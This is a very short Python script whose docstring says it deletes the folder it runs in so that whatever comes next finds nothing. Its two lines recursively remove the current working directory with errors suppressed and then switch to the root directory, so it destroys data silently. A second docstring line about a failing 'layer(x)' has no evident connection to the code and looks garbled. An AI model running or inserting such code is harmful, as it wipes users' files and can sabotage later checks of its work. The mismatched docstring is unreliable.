"""Deletes the folder it works in and goes to another, so that what comes after finds no place.

Fails: `layer(x), dropped elements filled in`.
"""
import os, shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
os.chdir("/")
